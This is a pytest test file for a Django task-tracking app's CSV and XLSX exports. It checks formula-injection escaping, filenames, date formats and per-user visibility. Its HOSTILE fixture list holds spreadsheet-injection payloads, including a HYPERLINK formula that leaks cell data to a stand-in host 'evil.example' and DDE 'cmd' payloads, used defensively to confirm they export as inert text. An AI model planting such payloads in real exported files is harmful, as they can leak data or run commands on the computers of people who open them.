"""The one export layer (tasks_app/exports/sheets.py): every table ready to hand on, and nothing a
spreadsheet would run as a formula (issue 18 item 4, issue 22 item 5)."""

import csv
import datetime as dt
import io
from urllib.parse import unquote

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from departments.models import Department
from tasks_app.plan.models import KeyTask
from tasks_app.workflow.services import milestone_create

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile(suzhou_plan, demo_accounts):
    task = KeyTask.objects.get(number=2)
    for days, title in enumerate(HOSTILE, start=3):
        milestone_create(
            task=task,
            owner=Department.objects.get(code="finance"),
            title=title,
            due_date=dt.date.today() - dt.timedelta(days=days),
            by=demo_accounts["supervisor"],
        )


def client_for(user):
    client = Client()
    client.force_login(user)
    return client


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def formula_cells(workbook):
    return [
        cell.coordinate
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
        or (isinstance(cell.value, str) and cell.value.startswith("=") and cell.data_type != "s")
    ]


@pytest.mark.parametrize("page", ["tasks_app:overdue_board", "tasks_app:milestone_list"])
def test_hostile_titles_export_as_inert_text(hostile, demo_accounts, page):
    supervisor = client_for(demo_accounts["supervisor"])
    xlsx = supervisor.get(reverse(page), {"_export": "xlsx", "owner": "finance"})
    assert xlsx.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(body(xlsx)))
    assert formula_cells(workbook) == []
    texts = {cell for row in workbook.active.iter_rows(min_row=3, values_only=True) for cell in row}
    for title in HOSTILE:
        assert title.strip("\t\r") in {str(t).strip("\t\r") for t in texts}  # the text is kept, as text

    raw = body(supervisor.get(reverse(page), {"_export": "csv", "owner": "finance"}))
    assert raw.startswith(b"\xef\xbb\xbf")
    cells = [cell for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for cell in row]
    assert cells and not [cell for cell in cells if cell[:1] in ("=", "+", "@", "-", "\t", "\r")]
    assert "'" + HOSTILE[0] in cells


def test_the_xlsx_is_ready_to_hand_on(hostile, demo_accounts):
    supervisor = client_for(demo_accounts["supervisor"])
    response = supervisor.get(reverse("tasks_app:overdue_board"), {"_export": "xlsx"})
    disposition = response["Content-Disposition"]
    assert "filename*=utf-8''" in disposition
    name = unquote(disposition.split("filename*=utf-8''")[1])
    assert name == f"逾期节点_{dt.date.today():%Y-%m-%d}.xlsx"
    sheet = openpyxl.load_workbook(io.BytesIO(body(response))).active
    assert sheet.title == "逾期节点"
    assert sheet["A1"].value.startswith("逾期节点") and "北京时间" in sheet["A1"].value
    assert sheet.freeze_panes == "B3"
    assert sheet["B2"].font.b and sheet["A2"].value == "序号"
    headers = [cell.value for cell in sheet[2]]
    row = list(sheet[3])
    due = row[headers.index("完成时限")]
    days = row[headers.index("逾期（自然日）")]
    assert isinstance(due.value, dt.datetime) and due.number_format == "yyyy-mm-dd"
    assert isinstance(days.value, int)
    assert row[headers.index("状态")].value == "未启动"
    width = sheet.column_dimensions[openpyxl.utils.get_column_letter(headers.index("完成时限") + 1)].width
    assert width >= 10  # wide enough: no ##### in Excel


def test_csv_dates_and_times_are_plain(hostile, demo_accounts):
    supervisor = client_for(demo_accounts["supervisor"])
    raw = body(supervisor.get(reverse("tasks_app:milestone_list"), {"_export": "csv", "owner": "finance"}))
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:3] == ["节点编号", "重点任务", "任务节点"]
    due = rows[1][rows[0].index("完成时限")]
    assert dt.date.fromisoformat(due)  # 2026-11-24, no time, no zone


def test_the_milestone_export_follows_the_pages_filter(hostile, demo_accounts):
    supervisor = client_for(demo_accounts["supervisor"])
    raw = body(supervisor.get(reverse("tasks_app:milestone_list"), {"_export": "csv", "title": "SUM"}))
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) == 2 and "SUM" in rows[1][2]


def test_a_liaison_exports_only_what_the_page_shows(hostile, demo_accounts):
    from tasks_app.workflow.permissions import milestones_visible_to

    liaison = demo_accounts["liaison-drc"]
    raw = body(client_for(liaison).get(reverse("tasks_app:milestone_list"), {"_export": "csv"}))
    ids = {int(row[0]) for row in list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))[1:]}
    assert ids == set(milestones_visible_to(liaison).values_list("pk", flat=True))
    assert not ids & set(
        KeyTask.objects.get(number=2).milestones.filter(owner__code="finance").values_list("pk", flat=True)
    ) or (milestones_visible_to(liaison).filter(task__number=2).exists())


def test_scorecards_export_numbers_as_numbers_and_rag_in_words(suzhou_plan, demo_accounts):
    supervisor = client_for(demo_accounts["supervisor"])
    year = dt.date.today().year
    response = supervisor.get(reverse("tasks_app:assessment", args=[str(year)]), {"_export": "xlsx"})
    assert response.status_code == 200
    assert "filename*=utf-8''" in response["Content-Disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(body(response))).active
    headers = [cell.value for cell in sheet[2]]
    rows = list(sheet.iter_rows(min_row=3, values_only=True))
    assert rows
    rags = {row[headers.index("预警")] for row in rows}
    assert rags and rags <= {"绿", "黄", "红"}
    assert all(
        isinstance(row[headers.index("得分")], (int, float)) for row in rows if row[headers.index("得分")] is not None
    )


def test_notifications_and_implementations_export(hostile, demo_accounts):
    from tasks_app.plan.models import Implementation

    district = client_for(demo_accounts["district-sip"])
    response = district.get(reverse("tasks_app:heatmap"), {"_export": "xlsx"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(body(response))).active
    assert sheet.title == "落实确认"
    rows = list(sheet.iter_rows(min_row=3, values_only=True))
    from tasks_app.plan.permissions import implementations_visible_to

    visible = implementations_visible_to(demo_accounts["district-sip"]).count()
    assert len(rows) == visible < Implementation.objects.count()

    from tasks_app.reminders.services import reminders_scan

    reminders_scan()
    finance = client_for(demo_accounts["liaison-finance"])
    raw = body(finance.get(reverse("tasks_app:notification_list"), {"_export": "csv"}))
    lines = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert lines[0] == ["时间", "类型", "内容", "已读"]
    assert len(lines) - 1 == demo_accounts["liaison-finance"].notifications.count() > 0
    assert not [cell for row in lines for cell in row if cell[:1] in ("=", "+", "@", "-")]


def test_a_title_with_control_characters_still_exports(hostile, demo_accounts):
    # Stored before text was cleaned on the way in (an update bypasses save): the export still works.
    from tasks_app.workflow.models import Milestone

    Milestone.objects.filter(title=HOSTILE[1]).update(title="垂直\x0b制表\x1b符")
    supervisor = client_for(demo_accounts["supervisor"])
    for page in ("tasks_app:overdue_board", "tasks_app:milestone_list"):
        response = supervisor.get(reverse(page), {"_export": "xlsx"})
        assert response.status_code == 200
        values = {c for row in openpyxl.load_workbook(io.BytesIO(body(response))).active.values for c in row}
        assert "垂直制表符" in values
        raw = body(supervisor.get(reverse(page), {"_export": "csv"})).decode("utf-8-sig")
        assert "垂直制表符" in raw and "\x0b" not in raw


def test_each_kind_of_value_keeps_its_excel_form_in_a_data_row():
    """Data rows append plain values where openpyxl writes them as the styled cells would (the fast
    path): every kind still reads back with its type and format, formula-like text stays text."""
    from decimal import Decimal

    from django.utils import timezone, translation

    from tasks_app.exports.sheets import Sheet, write_xlsx

    at = timezone.make_aware(dt.datetime(2026, 3, 5, 9, 30, 12))
    row = ("节点", "=1+1", "-3", dt.date(2026, 3, 1), at, 7, 12345, Decimal("3.50"), None, True)
    output = io.BytesIO()
    # In Chinese whatever ran before in this process (a request in English leaves English active).
    with translation.override("zh-hans"):
        write_xlsx(output, Sheet(name="kinds", headers=[f"h{i}" for i in range(len(row))], rows=iter([row])))
    cells = list(openpyxl.load_workbook(io.BytesIO(output.getvalue())).active[3])
    number, text, formula, minus, date, moment, small, large, decimal, empty, flag = cells
    assert number.value == 1
    assert (text.value, text.data_type) == ("节点", "s")
    assert (formula.value, formula.data_type, formula.quotePrefix) == ("=1+1", "s", True)
    assert (minus.value, minus.data_type, minus.quotePrefix) == ("-3", "s", True)
    assert date.value == dt.datetime(2026, 3, 1) and date.number_format == "yyyy-mm-dd"
    assert moment.value == dt.datetime(2026, 3, 5, 9, 30, 12) and moment.number_format == "yyyy-mm-dd hh:mm"
    assert small.value == 7 and large.value == 12345 and large.number_format == "#,##0"
    assert decimal.value == 3.5 and decimal.number_format == "#,##0.00"
    assert empty.value is None and flag.value == "是"


def test_the_overdue_export_writes_each_column_as_the_board_shows_it(demo_accounts):
    """Labels and working days worked out once per export (not per row), the last reminder in
    Beijing time: the CSV row of an escalated milestone, checked column by column."""
    import csv as csv_module

    from django.utils import timezone, translation

    from tasks_app.exports.sheets import Sheet, csv_lines
    from tasks_app.reminders.models import Reminder, ReminderKind
    from tasks_app.reminders.overdue_board import overdue_table
    from tasks_app.workflow.services import milestone_transition
    from workdays import calendar as workcal

    today = timezone.localdate()
    due = today - dt.timedelta(days=10)
    overdue = [
        milestone_create(
            task=KeyTask.objects.get(number=5),
            owner=Department.objects.get(code="customs"),
            title=f"逾期导出{n}",
            due_date=due,
            by=demo_accounts["supervisor"],
        )
        for n in range(3)
    ]
    milestone_transition(milestone=overdue[0], action="start", by=demo_accounts["liaison-customs"])
    at = dt.datetime(2026, 12, 1, 17, 30, tzinfo=dt.UTC)  # 2026-12-02 01:30 in Beijing
    Reminder.all_kinds.bulk_create(
        [
            Reminder(
                kind=ReminderKind.ESCALATION,
                subject=f"milestone:{milestone.pk}",
                occurrence=f"L{level}@test",
                milestone=milestone,
                task=milestone.task,
                department=milestone.owner,
                level=level,
                as_of=today,
                message="升级",
            )
            for milestone, level in ((overdue[0], 2), (overdue[1], 5))
        ]
    )
    Reminder.all_kinds.filter(occurrence__endswith="@test").update(created_at=at)
    with translation.override("zh-hans"):
        table = overdue_table(demo_accounts["supervisor"], {}, today)
        spec = Sheet(name="overdue", headers=table.export_headers(), rows=table.export_rows(table.data.data))
        text = b"".join(csv_lines(spec)).decode("utf-8-sig")
    rows = {row[0]: row for row in csv_module.reader(text.splitlines()[1:])}
    working = str(workcal.working_days_between(due, today))
    first = ["5", "苏州海关", "", due.isoformat(), "10", working, "督办", "2026-12-02 01:30", "推进中"]
    assert rows["逾期导出0"][1:] == first
    assert rows["逾期导出1"][5:] == ["10", working, "通报（第3轮）", "2026-12-02 01:30", "未启动"]
    assert rows["逾期导出2"][5:] == ["10", working, "", "", "未启动"]
